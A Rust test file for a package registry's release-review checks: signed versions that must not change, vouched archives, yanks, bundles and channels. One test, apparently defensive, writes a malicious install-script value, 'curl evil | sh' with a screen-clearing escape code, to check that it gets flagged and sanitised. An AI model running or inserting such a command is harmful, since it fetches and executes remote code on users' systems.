use provisioning_registry_api::bundle::ChannelsDocument;
use serde_json::{Value, json};

use super::*;

fn digest(text: &str) -> Digest {
    Digest::of(text.as_bytes())
}

fn entry(versions: &[(&str, &str)]) -> Value {
    let versions: Vec<Value> = versions
        .iter()
        .map(|(version, archive)| {
            json!({"version": version, "published_at": "2026-01-01T00:00:00Z",
                "dependencies": {}, "yanked": null,
                "archives": [{"target": "any", "digest": digest(archive).prefixed(), "size": 1,
                    "unpacked": 1, "entries": 1, "format": "tar.zst"}]})
        })
        .collect();
    json!({"schema": 1, "kind": "core", "name": "core", "versions": versions})
}

fn bundle(members: &[(&str, &str, &str)]) -> Value {
    let members: Vec<Value> = members
        .iter()
        .map(|(name, version, archive)| {
            let kind = if *name == "core" { "core" } else { "extension" };
            json!({"kind": kind, "name": name, "version": version, "required": true,
                "digests": {"any": digest(archive).prefixed()}})
        })
        .collect();
    json!({"schema": 1, "name": "stable-3.1", "sequences": [{"sequence": 1, "title": "Stable",
        "targets": [], "members": members, "upgrades_from": [], "state": "stable", "gates": []}]})
}

/// A release in memory: path → JSON or text.
#[derive(Clone, Default)]
struct Release(BTreeMap<String, String>);

impl Release {
    fn with(mut self, path: &str, value: &Value) -> Self {
        let text = value.as_str().map_or(value.to_string(), str::to_owned);
        self.0.insert(path.to_owned(), text);
        self
    }

    /// With the channels that follow from its bundles.
    fn with_channels(self) -> Self {
        let documents: Vec<BundleDocument> = self
            .0
            .iter()
            .filter(|(path, _)| path.starts_with("bundles/"))
            .map(|(_, text)| serde_json::from_str(text).unwrap())
            .collect();
        let heads = serde_json::to_value(provisioning_bundles::heads(&documents)).unwrap();
        self.with("channels.json", &heads)
    }
}

fn judge(before: &Release, after: &Release, local: &LocalFiles, is_vouched: bool) -> Review {
    review(&Evidence {
        before: &before.0,
        after: &after.0,
        local,
        is_vouched,
        scripts: &BTreeMap::from([("scripts/install.sh".to_owned(), "ours".to_owned())]),
    })
}

const CORE: &str = "index/core/core.json";

#[test]
fn a_new_version_needs_its_file_here_or_another_engineers_word() {
    let before = Release::default().with(CORE, &entry(&[("3.1.0", "old")]));
    let after = Release::default().with(CORE, &entry(&[("3.1.0", "old"), ("3.2.0", "new")]));
    let nothing = LocalFiles::default();
    let refused = judge(&before, &after, &nothing, false);
    assert_eq!(refused.refusals, Vec::<String>::new());
    assert_eq!(refused.unseen.len(), 1);
    assert!(
        refused.unseen[0].contains("core 3.2.0 for any"),
        "{refused:?}"
    );
    assert!(
        refused.lines[0].contains("core 3.2.0 becomes visible"),
        "{refused:?}"
    );

    let here = LocalFiles::of(&[(digest("new"), "core", "3.2.0")], &[]);
    assert_eq!(
        judge(&before, &after, &here, false).unseen,
        Vec::<String>::new()
    );
    assert_eq!(
        judge(&before, &after, &nothing, true).unseen,
        Vec::<String>::new()
    );
}

#[test]
fn a_file_that_is_here_under_another_version_vouches_for_nothing() {
    let before = Release::default().with(CORE, &entry(&[("3.1.0", "old")]));
    // A registry that offers an old, broken archive as the newest version.
    let after = Release::default().with(CORE, &entry(&[("3.1.0", "old"), ("3.2.0", "old")]));
    let here = LocalFiles::of(&[(digest("old"), "core", "3.1.0")], &[]);
    assert_eq!(judge(&before, &after, &here, false).unseen.len(), 1);
}

#[test]
fn what_was_signed_never_changes_and_never_vanishes() {
    let before = Release::default().with(CORE, &entry(&[("3.1.0", "old"), ("3.2.0", "new")]));
    for after in [
        entry(&[("3.1.0", "other"), ("3.2.0", "new")]),
        entry(&[("3.2.0", "new")]),
    ] {
        let after = Release::default().with(CORE, &after);
        let review = judge(&before, &after, &LocalFiles::default(), true);
        assert_eq!(review.refusals.len(), 1, "{review:?}");
    }
    let review = judge(&before, &Release::default(), &LocalFiles::default(), true);
    assert!(review.refusals[0].contains("would vanish"), "{review:?}");
}

#[test]
fn a_yank_is_shown_and_needs_no_file() {
    let before = Release::default().with(CORE, &entry(&[("3.1.0", "old")]));
    let mut yanked = entry(&[("3.1.0", "old")]);
    yanked["versions"][0]["yanked"] = json!({"reason": "burns", "at": "2026-02-01T00:00:00Z"});
    let after = Release::default().with(CORE, &yanked);
    let review = judge(&before, &after, &LocalFiles::default(), false);
    assert_eq!(review.lines, ["core 3.1.0 becomes yanked: burns"]);
    assert!(review.refusals.is_empty() && review.unseen.is_empty());
}

#[test]
fn a_bundle_pins_what_is_signed_with_it_and_extensions_that_are_here() {
    let index = Release::default().with(CORE, &entry(&[("3.1.0", "old")]));
    let path = "bundles/stable-3.1.json";
    let members = [("core", "3.1.0", "old"), ("redis", "1.0.0", "redis")];
    let after = index.clone().with(path, &bundle(&members)).with_channels();
    let review = judge(&index, &after, &LocalFiles::default(), false);
    assert_eq!(
        review.unseen,
        [format!(
            "redis 1.0.0 for any: {}",
            digest("redis").prefixed()
        )]
    );
    assert!(
        review
            .lines
            .iter()
            .any(|it| it.contains("channel stable points at")),
        "{review:?}"
    );
    let here = LocalFiles::of(&[(digest("redis"), "redis", "1.0.0")], &[]);
    assert_eq!(
        judge(&index, &after, &here, false).unseen,
        Vec::<String>::new()
    );

    // A core that the index does not list can be in no bundle, whoever vouches.
    let false_members = [("core", "3.1.0", "evil")];
    let after = index
        .clone()
        .with(path, &bundle(&false_members))
        .with_channels();
    let review = judge(&index, &after, &LocalFiles::default(), true);
    assert!(
        review.refusals[0].contains("which its entry does not list"),
        "{review:?}"
    );

    // And members never change.
    let before = index.clone().with(path, &bundle(&members)).with_channels();
    let after = index.with(path, &bundle(&members[..1])).with_channels();
    let review = judge(&before, &after, &LocalFiles::default(), true);
    assert!(review.refusals[0].contains("never change"), "{review:?}");
}

#[test]
fn channels_that_do_not_follow_from_the_bundles_are_refused() {
    let path = "bundles/stable-3.1.json";
    let index = Release::default().with(CORE, &entry(&[("3.1.0", "old")]));
    let members = [("core", "3.1.0", "old")];
    let honest = index.with(path, &bundle(&members)).with_channels();
    let empty = serde_json::to_value(ChannelsDocument::default()).unwrap();
    let lie = honest.clone().with("channels.json", &empty);
    let review = judge(&honest, &lie, &LocalFiles::default(), true);
    assert!(review.refusals[0].contains("does not follow"), "{review:?}");
}

#[test]
fn a_matrix_must_lie_here_or_be_read_and_a_script_must_be_our_own_or_be_read() {
    let before = Release::default();
    let after = Release::default().with("versions.toml", &json!("[compatibility.core]\n"));
    let review = judge(&before, &after, &LocalFiles::default(), false);
    assert_eq!(review.unread, ["versions.toml"]);
    assert!(
        review
            .lines
            .iter()
            .any(|it| it.contains("+[compatibility.core]")),
        "{review:?}"
    );
    let here = LocalFiles::of(&[], &[digest("[compatibility.core]\n")]);
    assert_eq!(
        judge(&before, &after, &here, false).unread,
        Vec::<String>::new()
    );

    let after = Release::default().with("scripts/install.sh", &json!("ours"));
    assert!(
        judge(&before, &after, &LocalFiles::default(), false)
            .unread
            .is_empty()
    );
    let after = Release::default().with("scripts/install.sh", &json!("curl evil | sh\u{1b}[2J"));
    let review = judge(&before, &after, &LocalFiles::default(), false);
    assert_eq!(review.unread, ["scripts/install.sh"]);
    assert!(
        review.lines.iter().all(|it| !it.contains('\u{1b}')),
        "{review:?}"
    );
}

#[test]
fn a_path_that_is_nothing_of_ours_is_refused() {
    let after = Release::default().with("scripts", &json!("x"));
    let review = judge(&Release::default(), &after, &LocalFiles::default(), true);
    assert!(
        review.refusals[0].contains("nothing that this client knows"),
        "{review:?}"
    );
}
